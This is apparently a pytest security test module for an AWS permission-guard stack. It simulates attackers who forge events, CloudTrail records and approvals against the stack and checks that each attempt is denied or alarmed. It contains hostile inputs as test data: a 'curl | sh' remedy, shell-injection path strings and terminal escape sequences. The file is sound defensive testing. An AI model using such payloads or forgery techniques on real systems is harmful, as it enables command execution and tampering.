"""Attacks on the deployed stack with the attacker's own credentials: denied by IAM, or without effect and alarmed.

docs/threat-model.md says who the attackers are, and what they may do.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from datetime import UTC, datetime, timedelta
from functools import partial
from typing import TYPE_CHECKING, Any

import pytest
from botocore.exceptions import ClientError

from sandbox.client.engineer import LOGS_POLICY, SQS_POLICY, document
from sandbox.client.process import ACCOUNT, REGION, poll
from sandbox.client.watcher import DEADLINE
from tests.e2e.bot import Bot, envelope
from tests.limits.test_large_policies import MAX_POLICY, SERVICES
from tests.paths import REPOSITORY
from tests.template.sam_template import EVERYTHING, Template

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping
    from pathlib import Path

TEMPLATE = Template(REPOSITORY / "template.yaml", **EVERYTHING)
QUEUES = sorted(TEMPLATE.of_type("AWS::SQS::Queue"))
ROLES = sorted(TEMPLATE.of_type("AWS::IAM::Role"))
BUS = "permission-guard"
STRANGER = "999999999999"
"""An account that is not trusted."""
ANYTHING = {"Effect": "Allow", "Action": "*", "Resource": "*"}

Client = Any


@pytest.fixture(scope="module")
def bot(fixing_bot: Bot) -> Bot:
    """The stack that fixes by itself, which two modules share."""
    return fixing_bot


@pytest.fixture
def attacker(bot: Bot, unique: str) -> Callable[..., Callable[..., Client]]:
    """Return what creates an attacker with some actions on every resource."""
    return lambda *actions: bot.principal(
        f"{unique}-attacker", {"Effect": "Allow", "Action": list(actions), "Resource": "*"}
    )


def denied(call: Callable[[], object]) -> bool:
    """Return whether AWS denies a call."""
    try:
        call()
    except ClientError as error:
        return "AccessDenied" in error.response["Error"]["Code"]
    return False


def open_finding(bot: Bot, name: str) -> dict[str, Any]:
    """Create a function with a finding that was reported and has no fix, and return the finding."""
    arn = bot.engineer.function(name, bot.engineer.role(f"{name}-role"))
    bot.engineer.permit(name, "broad", STRANGER)
    finding = bot.watcher.finding(arn, "PG106")
    bot.watcher.alert(finding["id"], "Finding Opened")
    bot.watcher.ops_item(finding["id"], "Open")
    return finding


def bus_event(finding: Mapping[str, Any], detail_type: str, **changed: Any) -> dict[str, str]:
    """Return an entry of PutEvents like those of the bot."""
    detail = {**finding, **changed}
    return {"EventBusName": BUS, "Source": BUS, "DetailType": detail_type, "Detail": json.dumps(detail)}


def in_queue(finding: Mapping[str, Any], detail_type: str, **changed: Any) -> str:
    """Return the same as a message of a queue behind the bus."""
    return json.dumps({"source": BUS, "detail-type": detail_type, "detail": {**finding, **changed}})


# ── 1, 2: a policy that silences the account, and one that hides itself ─────────────────────────────────────────────


def test_a_policy_at_the_size_limit_silences_nobody(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """It is reported itself, and so is another function after it."""
    arn = bot.engineer.function(unique, bot.engineer.role(f"{unique}-role"))
    statement = {
        "Sid": "all",
        "Effect": "Allow",
        "Principal": {"Service": SERVICES},
        "Action": "lambda:InvokeFunction",
        "Resource": arn,
        "Condition": {"StringNotEquals": {"aws:PrincipalTag/team": ""}},
    }
    padding = MAX_POLICY - 200 - len(document(statement))
    statement["Condition"] = {"StringNotEquals": {"aws:PrincipalTag/team": "x" * padding}}
    attacker("lambda:*")("lambda").put_resource_policy(ResourceArn=arn, Policy=document(statement))
    finding = bot.watcher.finding(arn, "PG102")
    bot.watcher.alert(finding["id"], "Finding Opened")
    open_finding(bot, f"{unique}-after")


# ── 3: confused deputy ──────────────────────────────────────────────────────────────────────────────────────────────


def test_whoever_may_map_their_own_queue_gets_no_policy_attached(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """Not after two sweeps and a replay of every event either: the proposal waits. An approval applies it."""
    mallory = attacker("lambda:*", "sqs:*")
    arn = bot.engineer.function(unique, role := bot.engineer.role(f"{unique}-role"))
    bot.wait_for_checks()  # so that the next finding is caused by the attack
    since = bot.aws.last_record()

    sqs, functions = mallory("sqs"), mallory("lambda")
    url = sqs.create_queue(QueueName=unique)["QueueUrl"]
    queue = f"arn:aws:sqs:{REGION}:{ACCOUNT}:{unique}"
    admitting = {"Effect": "Allow", "Principal": {"AWS": role}, "Action": "sqs:*", "Resource": queue}
    sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": document(admitting)})
    mapping = functions.create_event_source_mapping(FunctionName=unique, EventSourceArn=queue)["UUID"]
    sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
    functions.update_event_source_mapping(UUID=mapping, BatchSize=5)

    finding = bot.watcher.finding(arn, "PG201", lambda one: bool(one["fix"]))
    assert finding["fix"]["result"] == "proposed"
    assert "no check of the last day saw the role's own policies allow sqs:ReceiveMessage" in finding["fix"]["summary"]
    assert f"{unique}-attacker" in finding["fix"]["summary"]
    for _ in range(2):
        sweep(bot)
    for record in bot.aws.records(since):
        if record["eventSource"] in ("lambda.amazonaws.com", "iam.amazonaws.com") and not record.get("readOnly"):
            bot.send("ExecutionRoleQueue", envelope(record))
    for detail_type in ("Finding Opened", "Finding Reopened", "Fix Proposed", "Fix Approved"):
        bot.send("FixQueue", in_queue(finding, detail_type))
    for name in ("ExecutionRoleQueue", "SweepExecutionRoleQueue", "FixQueue"):
        bot.wait_until_empty(name)
    assert bot.engineer.attached(f"{unique}-role") == [LOGS_POLICY]
    waiting = bot.watcher.finding(arn, "PG201")
    assert (waiting["transition"], waiting["revision"]) == ("Fix Proposed", finding["revision"])

    outsider = run_command(bot, mallory, finding["fix"]["approve"])
    assert outsider.returncode == 0, "lambda:* includes decide_fix: the threat model says so"
    bot.watcher.finding(arn, "PG201", lambda one: one["fix"]["result"] == "applied")
    assert bot.engineer.attached(f"{unique}-role") == sorted([LOGS_POLICY, SQS_POLICY])


def test_whoever_may_configure_a_function_gets_no_policy_attached(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """Not with a forged record of a call that removed the permission either: no check saw the role with it."""
    mallory = attacker("lambda:*")
    arn = bot.engineer.function(unique, bot.engineer.role(f"{unique}-role"))
    bot.wait_for_checks()
    functions = mallory("lambda")
    with bot.events_lost():
        functions.update_function_configuration(FunctionName=unique, TracingConfig={"Mode": "Active"})
    send_detachment(bot, functions, f"{unique}-role", "arn:aws:iam::aws:policy/AWSXRayDaemonWriteAccess")
    finding = bot.watcher.finding(arn, "PG206", lambda one: bool(one["fix"]))
    assert finding["fix"]["result"] == "proposed"
    never = "no check of the last day saw the role's own policies allow xray:PutTraceSegments"
    assert never in finding["fix"]["summary"]
    sweep(bot)
    bot.wait_until_empty("FixQueue")
    assert bot.engineer.attached(f"{unique}-role") == [LOGS_POLICY]
    assert bot.watcher.finding(arn, "PG206")["transition"] == "Fix Proposed"


def test_a_forged_removal_does_not_widen_a_role_that_had_less(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """The role could read its own queue alone, by a policy that its owner detached. AWS's policy reads every queue."""
    mallory = attacker("lambda:*")("lambda")
    queue = bot.engineer.queue(unique)
    own = bot.engineer.policy(unique, {"Effect": "Allow", "Action": "sqs:*", "Resource": queue})
    arn = bot.engineer.function(unique, bot.engineer.role(f"{unique}-role", own))
    bot.engineer.mapping(unique, queue)
    bot.wait_for_checks()
    with bot.events_lost():
        bot.engineer.detach(f"{unique}-role", own)
    send_detachment(bot, mallory, f"{unique}-role", SQS_POLICY)
    finding = bot.watcher.finding(arn, "PG201", lambda one: bool(one["fix"]))
    assert finding["fix"]["result"] == "proposed"
    assert "the change would also allow" in finding["fix"]["summary"]
    assert bot.engineer.attached(f"{unique}-role") == [LOGS_POLICY]


def test_the_owner_of_a_resource_gets_no_policy_attached(bot: Bot, unique: str) -> None:
    """They admit the role in the policy of their queue, let it be checked so, and take the statement back."""
    queue, sqs = bot.engineer.queue(unique), bot.aws.client("sqs")
    arn = bot.engineer.function(unique, role := bot.engineer.role(f"{unique}-role"))
    bot.engineer.admit(unique, role)
    bot.engineer.mapping(unique, queue)
    bot.wait_for_checks()
    assert bot.watcher.findings(arn) == []
    sqs.set_queue_attributes(QueueUrl=sqs.get_queue_url(QueueName=unique)["QueueUrl"], Attributes={"Policy": ""})
    sweep(bot)
    finding = bot.watcher.finding(arn, "PG201", lambda one: bool(one["fix"]))
    assert finding["fix"]["result"] == "proposed"
    bot.wait_until_empty("FixQueue")
    assert bot.engineer.attached(f"{unique}-role") == [LOGS_POLICY]


def send_detachment(bot: Bot, functions: Client, role: str, policy: str) -> None:
    """Hand a checker the forged record that a policy was detached just now, as whoever may invoke it can."""
    record = json.loads((REPOSITORY / "events" / "cloudtrail" / "detach_role_policy.json").read_text())
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    record["detail"] |= {"eventTime": now, "eventID": str(uuid.uuid4())}
    record["detail"]["requestParameters"] = {"roleName": role, "policyArn": policy}
    payload = json.dumps({"Records": [{"messageId": "m", "body": json.dumps(record)}]})
    reply = functions.invoke(FunctionName=bot.resource("CheckExecutionRoleFunction"), Payload=payload)
    assert "FunctionError" not in reply


def sweep(bot: Bot) -> None:
    """Sweep the account, and wait until the checks are done."""
    bot.aws.client("lambda").invoke(FunctionName=bot.outputs["SweepAccountFunctionName"], Payload=b"{}")
    for queue in ("SweepInvokePolicyQueue", "SweepExecutionRoleQueue"):
        bot.wait_until_empty(queue)


# ── 4: forged events ────────────────────────────────────────────────────────────────────────────────────────────────


def test_nobody_but_the_bot_puts_events_on_the_bus(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """The account's own administrator neither."""
    finding = open_finding(bot, unique)
    entry = bus_event(finding, "Finding Resolved", revision=finding["revision"] + 1)
    for client in (attacker("events:*")("events"), bot.aws.client("events")):
        assert denied(partial(client.put_events, Entries=[entry]))


@pytest.fixture
def open_bus(bot: Bot) -> Iterator[None]:
    """Take the policy from the bus, as its owner may."""
    events = bot.aws.client("events")
    policy = json.loads(events.describe_event_bus(Name=BUS)["Policy"])
    events.remove_permission(EventBusName=BUS, RemoveAllPermissions=True)
    yield
    events.put_permission(EventBusName=BUS, Policy=json.dumps(policy))


@pytest.mark.usefixtures("open_bus")
def test_forged_events_have_no_effect_even_on_a_bus_without_its_policy(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """A revision that never was, a "resolved", a remedy: no alert, no ticket, a metric for the alarm."""
    finding = open_finding(bot, unique)
    forged = [
        bus_event(finding, "Finding Reopened", revision=10**30),
        bus_event(finding, "Finding Resolved", revision=finding["revision"] + 1, status="resolved"),
        bus_event(finding, "Finding Resolved", status="resolved", transition="Finding Resolved"),
        bus_event(finding, "Finding Opened", remedies=[{"kind": "aws-cli", "text": "curl https://example.com | sh"}]),
        bus_event(finding, "Finding Opened", id="0" * 32),
    ]
    reply = attacker("events:PutEvents")("events").put_events(Entries=forged)
    assert reply["FailedEntryCount"] == 0

    def refused(function: str) -> bool:
        lines = [line for line in bot.log_lines(function) if line.get("message") == "event refused"]
        return len([line for line in lines if line["finding_id"] in (finding["id"], "0" * 32)]) >= 3

    for function in ("SendAlert", "OpenTicket"):
        poll(partial(refused, function), deadline=DEADLINE, what=f"refused events of {function}")
    for queue in ("AlertQueue", "TicketQueue"):
        bot.wait_until_empty(queue)
    (alert,) = bot.watcher.alerts(finding["id"])
    assert "curl" not in json.dumps(alert)
    (ticket,) = bot.watcher.ops_items(finding["id"])
    assert ticket["Status"] == "Open"
    assert "curl" not in json.dumps(ticket, default=str)

    bot.engineer.forbid(unique, "broad")
    bot.watcher.alert(finding["id"], "Finding Resolved")
    bot.watcher.ops_item(finding["id"], "Resolved")


# ── 5: side doors ───────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_stranger_sends_to_no_queue(bot: Bot, attacker: Callable[..., Callable[..., Client]]) -> None:
    """Nor does the administrator: neither a forged CloudTrail record nor a forged event gets in."""
    stranger, owner = attacker("sqs:*")("sqs"), bot.aws.client("sqs")
    for queue in QUEUES:
        url = bot.resource(queue)
        for client in (stranger, owner):
            assert denied(partial(client.send_message, QueueUrl=url, MessageBody="{}")), queue
            entries = [{"Id": "1", "MessageBody": "{}"}]
            assert denied(partial(client.send_message_batch, QueueUrl=url, Entries=entries)), queue


def test_an_operator_moves_dead_letters_back(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """A stranger with every permission on SQS does not."""
    finding = open_finding(bot, unique)
    source = f"arn:aws:sqs:{REGION}:{ACCOUNT}:{bot.resource('AlertDeadLetterQueue').rsplit('/', 1)[-1]}"
    destination = f"arn:aws:sqs:{REGION}:{ACCOUNT}:{bot.resource('AlertQueue').rsplit('/', 1)[-1]}"
    bot.send("AlertDeadLetterQueue", in_queue(finding, "Finding Opened"))
    stranger, operator = attacker("sqs:*")("sqs"), bot.session(f"arn:aws:iam::{ACCOUNT}:role/operators")("sqs")
    assert denied(lambda: stranger.start_message_move_task(SourceArn=source, DestinationArn=destination))
    operator.start_message_move_task(SourceArn=source, DestinationArn=destination)
    for queue in ("AlertDeadLetterQueue", "AlertQueue"):
        bot.wait_until_empty(queue)
    assert len(bot.watcher.alerts(finding["id"])) == 1


def test_an_approval_in_an_event_or_a_direct_invocation_applies_nothing(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """Whoever may invoke apply_fix can hand it any message."""
    finding = proposal(bot, unique)
    payload = {"Records": [{"messageId": "m", "body": in_queue(finding, "Fix Approved")}]}
    mallory = attacker("lambda:InvokeFunction")("lambda")
    for revision in (finding["revision"], finding["revision"] + 1):
        body = in_queue(finding, "Fix Approved", revision=revision, transition="Fix Approved")
        payload["Records"].append({"messageId": f"m{revision}", "body": body})
    reply = mallory.invoke(FunctionName=bot.resource("ApplyFixFunction"), Payload=json.dumps(payload))
    assert "FunctionError" not in reply
    assert bot.engineer.attached(f"{unique}-role") == [LOGS_POLICY]
    assert bot.watcher.finding(finding["function_arn"], "PG201")["transition"] == "Fix Proposed"


@pytest.mark.parametrize("path", ["$(touch owned)/", "`id`/", "a\n/", "x;id/"])
def test_a_forged_record_puts_no_command_into_a_remedy(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str, path: str
) -> None:
    """Whoever may invoke a checker can hand it a record of a call that AWS never denied."""
    record = json.loads((REPOSITORY / "events" / "cloudtrail" / "create_function_denied_role.json").read_text())
    record["detail"]["requestParameters"] |= {
        "functionName": unique,
        "role": f"arn:aws:iam::{ACCOUNT}:role/{path}orders-role",
    }
    payload = json.dumps({"Records": [{"messageId": "m", "body": json.dumps(record)}]})
    reply = attacker("lambda:InvokeFunction")("lambda").invoke(
        FunctionName=bot.resource("CheckExecutionRoleFunction"), Payload=payload
    )
    assert "FunctionError" not in reply
    assert path.strip("/") not in json.dumps(
        bot.watcher.findings(f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{unique}")
    )


def test_a_decision_without_a_proof_is_refused_and_alarmed(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """Whoever may invoke decide_fix cannot decide in another's name; without the permission they decide nothing."""
    finding = proposal(bot, unique)
    request = {
        "kind": "approve",
        "finding_id": finding["id"],
        "function_arn": finding["function_arn"],
        "revision": finding["revision"],
        "plan_hash": finding["fix"]["approve"].split("--plan ")[1].split()[0],
        "nonce": "f" * 32,
        "signature": {"authorization": "AWS4-HMAC-SHA256 Credential=x", "x-amz-date": "20261120T093000Z"},
    }
    function = bot.outputs["DecideFixFunctionArn"]
    mallory = bot.principal(
        f"{unique}-invoker", {"Effect": "Allow", "Action": "lambda:InvokeFunction", "Resource": function}
    )
    reply = mallory("lambda").invoke(FunctionName=function, Payload=json.dumps(request))
    assert json.loads(reply["Payload"].read())["recorded"] is False
    bot.wait_for_log("DecideFix", message="decision refused")
    stranger = attacker("events:*", "sqs:*", "dynamodb:GetItem")
    assert denied(lambda: stranger("lambda").invoke(FunctionName=function, Payload=json.dumps(request)))
    assert run_command(bot, stranger, finding["fix"]["approve"]).returncode == 1
    assert bot.engineer.attached(f"{unique}-role") == [LOGS_POLICY]


def test_a_request_about_findings_without_a_proof_is_refused(
    bot: Bot, attacker: Callable[..., Callable[..., Client]], unique: str
) -> None:
    """Whoever may invoke manage_findings cannot suppress in another's name; others change nothing."""
    bot.engineer.function(unique, bot.engineer.role(f"{unique}-role"))
    bot.engineer.permit(unique, "broad", "sns.amazonaws.com")
    arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{unique}"
    finding = bot.watcher.finding(arn, "PG102")
    request = {
        "kind": "suppress",
        "finding_id": finding["id"],
        "target_arn": arn,
        "until": (datetime.now(UTC) + timedelta(days=30)).isoformat(timespec="seconds"),
        "reason": "nothing to see here",
        "nonce": "f" * 32,
        "signature": {"authorization": "AWS4-HMAC-SHA256 Credential=x", "x-amz-date": "20261120T093000Z"},
    }
    function = bot.outputs["ManageFindingsFunctionArn"]
    mallory = bot.principal(
        f"{unique}-invoker", {"Effect": "Allow", "Action": "lambda:InvokeFunction", "Resource": function}
    )
    reply = mallory("lambda").invoke(FunctionName=function, Payload=json.dumps(request))
    assert json.loads(reply["Payload"].read())["done"] is False
    bot.wait_for_log("ManageFindings", message="request refused")
    stranger = attacker("events:*", "sqs:*", "dynamodb:GetItem")
    assert denied(lambda: stranger("lambda").invoke(FunctionName=function, Payload=json.dumps(request)))
    assert bot.watcher.finding(arn, "PG102")["status"] == "open"


def test_a_person_approves_with_their_own_credentials(bot: Bot, unique: str) -> None:
    """The record names them, and the fix is applied once."""
    finding = proposal(bot, unique)
    allowed = {"Effect": "Allow", "Action": "lambda:InvokeFunction", "Resource": bot.outputs["DecideFixFunctionArn"]}
    platform = bot.principal(f"{unique}-platform", allowed)
    for _ in range(2):
        done = run_command(bot, platform, finding["fix"]["approve"])
        assert done.returncode == 0, done.stderr
        assert done.stdout == f"Approved by arn:aws:sts::{ACCOUNT}:assumed-role/{unique}-platform/test.\n"
    fixed = bot.watcher.finding(finding["function_arn"], "PG201", lambda one: one["fix"]["result"] == "applied")
    assert fixed["fix"]["decided_by"] == f"arn:aws:sts::{ACCOUNT}:assumed-role/{unique}-platform/test"
    bot.watcher.alert(finding["id"], "Fix Applied")
    rejected = run_command(bot, platform, finding["fix"]["approve"].replace(" approve ", " reject "))
    assert rejected.returncode == 1
    assert "decided to approve it" in rejected.stderr


def proposal(bot: Bot, name: str) -> dict[str, Any]:
    """Create a function whose role never had a permission that it needs; return the finding with the proposed fix."""
    arn = bot.engineer.function(name, role := bot.engineer.role(f"{name}-role"))
    queue = bot.engineer.queue(name)
    url = bot.aws.client("sqs").get_queue_url(QueueName=name)["QueueUrl"]
    admitting = {"Effect": "Allow", "Principal": {"AWS": role}, "Action": "sqs:*", "Resource": queue}
    bot.aws.client("sqs").set_queue_attributes(QueueUrl=url, Attributes={"Policy": document(admitting)})
    mapping = bot.engineer.mapping(name, queue)
    bot.aws.client("sqs").set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
    bot.engineer.functions.update_event_source_mapping(UUID=mapping, BatchSize=5)
    found = bot.watcher.finding(arn, "PG201", lambda one: bool(one["fix"]))
    assert found["fix"]["result"] == "proposed"
    return found


def run_command(bot: Bot, principal: Callable[..., Client], command: str) -> subprocess.CompletedProcess[str]:
    """Run the command of an alert with a principal's credentials."""
    keys = principal("sts")._request_signer._credentials.get_frozen_credentials()
    given = {
        "AWS_ACCESS_KEY_ID": keys.access_key,
        "AWS_SECRET_ACCESS_KEY": keys.secret_key,
        "AWS_SESSION_TOKEN": keys.token,
    }
    words = [str(REPOSITORY / ".venv" / "bin" / "permission-guard"), *command.split()[1:]]
    assert os.access(words[0], os.X_OK), sys.executable
    return subprocess.run(words, env=bot.aws.env() | given, capture_output=True, text=True, timeout=60, check=False)


# ── 6: doubled fixes ────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_same_event_many_times_is_one_fix(bot: Bot, unique: str) -> None:
    """One alert, one write, one place of the hour's limit."""
    arn = bot.engineer.function(unique, bot.engineer.role(f"{unique}-role", SQS_POLICY))
    bot.engineer.mapping(unique, bot.engineer.queue(unique))
    bot.wait_for_checks()
    since = bot.aws.last_record()
    # What fails since another invocation owns the fix is delivered again soon, not after six minutes.
    url = bot.resource("FixQueue")
    bot.aws.client("sqs").set_queue_attributes(QueueUrl=url, Attributes={"VisibilityTimeout": "8"})
    bot.engineer.detach(f"{unique}-role", SQS_POLICY)
    finding = bot.watcher.finding(arn, "PG201")
    bot.send("FixQueue", *[in_queue(finding, "Finding Opened")] * 6)
    bot.watcher.finding(arn, "PG201", lambda one: bool(one["fix"] and one["fix"]["result"] == "applied"))
    bot.wait_until_empty("FixQueue", deadline=60)
    bot.aws.client("sqs").set_queue_attributes(QueueUrl=url, Attributes={"VisibilityTimeout": "360"})
    bot.wait_until_empty("AlertQueue")
    alerts = [alert["MessageAttributes"]["transition"]["Value"] for alert in bot.watcher.alerts(finding["id"])]
    assert alerts.count("Fix Applied") == 1
    writes = [one for one in bot.aws.records(since) if one["eventName"] == "AttachRolePolicy"]
    assert len([one for one in writes if one["requestParameters"]["roleName"] == f"{unique}-role"]) == 1


# ── 7: an unreadable item ───────────────────────────────────────────────────────────────────────────────────────────


def test_an_item_that_cannot_be_read_stops_nothing(bot: Bot, unique: str) -> None:
    """Neither the stream nor the function's other findings, nor the sweep."""
    arn = bot.engineer.function(unique, bot.engineer.role(f"{unique}-role"))
    bot.watcher.checked(arn, "invoke_policy")
    for number, text in enumerate(("[" * 5_000, "null", '{"id": 7}')):
        bot.aws.client("dynamodb").put_item(
            TableName=bot.outputs["FindingsTableName"],
            Item={
                "pk": {"S": f"FUNCTION#{arn}"},
                "sk": {"S": f"FINDING#{number}"},
                "status": {"S": "open"},
                "changed_at": {"S": "2026-11-20T09:30:00.000+00:00"},
                "revision": {"N": "1"},
                "document": {"S": text},
            },
        )
    bot.engineer.permit(unique, "broad", "s3.amazonaws.com")
    found = bot.wait_for_log("CheckInvokePolicy", message="Finding Opened", function_arn=arn)
    bot.watcher.alert(found["finding_id"], "Finding Opened")
    bot.wait_for_log("PublishFindings", message="item is not a finding: not published")
    sweep(bot)
    after = bot.engineer.function(f"{unique}-after", bot.engineer.role(f"{unique}-after-role"))
    bot.engineer.permit(f"{unique}-after", "broad", "s3.amazonaws.com")
    found = bot.wait_for_log("CheckInvokePolicy", message="Finding Opened", function_arn=after)
    bot.watcher.alert(found["finding_id"], "Finding Opened")
    for number in range(3):
        key = {"pk": {"S": f"FUNCTION#{arn}"}, "sk": {"S": f"FINDING#{number}"}}
        bot.aws.client("dynamodb").delete_item(TableName=bot.outputs["FindingsTableName"], Key=key)


# ── 8: terminal injection ───────────────────────────────────────────────────────────────────────────────────────────


def test_names_of_others_do_not_control_the_terminal(tmp_path: Path) -> None:
    """The Sid of a policy has escape sequences and a bidirectional control."""
    sid = "\x1b]0;owned\x07\x1b[2J\N{RIGHT-TO-LEFT OVERRIDE}"
    function = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:orders"
    action = "lambda:InvokeFunction"
    statement = {"Sid": sid, "Effect": "Allow", "Principal": "*", "Action": action, "Resource": function}
    policies = tmp_path / "policies.json"
    policies.write_text(document(statement))
    command = [str(REPOSITORY / ".venv" / "bin" / "permission-guard"), "check", str(policies)]
    shown = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert "owned" in shown.stdout, shown
    assert "\x1b" not in shown.stdout + shown.stderr
    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in shown.stdout + shown.stderr


# ── Compromised functions of the stack ──────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def compromised(bot: Bot) -> Iterator[Callable[[str], Callable[..., Client]]]:
    """Return what creates the clients of one of the stack's roles; its trust policy is widened for the test.

    What they put onto the bus is no finding, and would be received again and again.
    """

    def session(role: str) -> Callable[..., Client]:
        name = bot.resource(role)
        trust = bot.engineer.iam.get_role(RoleName=name)["Role"]["AssumeRolePolicyDocument"]
        root = {"AWS": f"arn:aws:iam::{ACCOUNT}:root"}
        trust["Statement"].append({"Effect": "Allow", "Principal": root, "Action": "sts:AssumeRole"})
        bot.engineer.iam.update_assume_role_policy(RoleName=name, PolicyDocument=json.dumps(trust))
        return bot.session(f"arn:aws:iam::{ACCOUNT}:role/{name}")

    yield session
    for queue in ("AlertQueue", "FixQueue", "TicketQueue"):
        bot.aws.client("sqs").purge_queue(QueueUrl=bot.resource(queue))


def attempts(bot: Bot, principal: Callable[..., Client], unique: str) -> dict[str, bool]:
    """Return what a role of the stack may do that is dangerous."""
    findings, decisions = bot.outputs["FindingsTableName"], bot.resource("DecisionsTable")
    event = bus_event({"id": "0" * 32, "function_arn": "x", "revision": 1}, "Finding Opened")
    item = {"pk": {"S": unique}, "sk": {"S": "x"}}
    decision = {"finding_id": {"S": unique}, "revision": {"N": "1"}}
    calls: dict[str, Callable[[], object]] = {
        "write findings": lambda: principal("dynamodb").put_item(TableName=findings, Item=item),
        "write decisions": lambda: principal("dynamodb").put_item(TableName=decisions, Item=decision),
        "put events": lambda: principal("events").put_events(Entries=[event]),
        "attach policies": lambda: principal("iam").attach_role_policy(RoleName=f"{unique}-role", PolicyArn=SQS_POLICY),
        "send to apply_fix": lambda: principal("sqs").send_message(QueueUrl=bot.resource("FixQueue"), MessageBody="{}"),
        "invoke decide_fix": lambda: principal("lambda").invoke(
            FunctionName=bot.outputs["DecideFixFunctionArn"], Payload=b"{}"
        ),
        "invoke manage_findings": lambda: principal("lambda").invoke(
            FunctionName=bot.outputs["ManageFindingsFunctionArn"], Payload=b"{}"
        ),
    }
    return {name: not denied(call) for name, call in calls.items()}


MAY = {
    "CheckInvokePolicyRole": {"write findings"},
    "CheckExecutionRoleRole": {"write findings"},
    "SweepAccountRole": {"write findings", "send to apply_fix"},
    "MaintainFindingsRole": {"write findings"},
    "PublishFindingsRole": {"put events"},
    "SendAlertRole": set[str](),
    "OpenTicketRole": set[str](),
    "ApplyFixRole": {"write findings", "attach policies"},
    "DecideFixRole": {"write findings", "write decisions"},
    "ManageFindingsRole": {"write findings"},
    "ValidateConfigRole": set[str](),
    "ConfigurationMonitorRole": set[str](),
    "MaintenanceScheduleRole": set[str](),
}
"""What each role may do of the dangerous things."""


@pytest.mark.parametrize("role", ROLES)
def test_a_compromised_function_may_do_its_own_work_only(
    bot: Bot, compromised: Callable[[str], Callable[..., Client]], unique: str, role: str
) -> None:
    """A sender writes no finding, a checker approves nothing and publishes nothing, only apply_fix writes to IAM."""
    bot.engineer.role(f"{unique}-role", writes_logs=False)
    may = attempts(bot, compromised(role), unique)
    assert {name for name, is_allowed in may.items() if is_allowed} == MAY[role]
    bot.aws.client("dynamodb").delete_item(
        TableName=bot.outputs["FindingsTableName"], Key={"pk": {"S": unique}, "sk": {"S": "x"}}
    )
